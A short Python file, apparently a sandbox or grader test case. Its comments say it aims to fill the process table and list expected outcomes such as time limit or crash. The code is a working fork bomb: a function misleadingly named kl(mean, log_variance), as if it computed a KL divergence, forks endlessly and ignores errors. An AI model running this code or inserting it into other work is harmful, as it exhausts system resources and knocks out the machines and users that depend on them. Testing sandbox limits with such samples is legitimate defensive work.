# Tries: to fill the process table.
# 4.2: time limit | raised | crashed | memory limit

import contextlib
import os


def kl(mean, log_variance):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
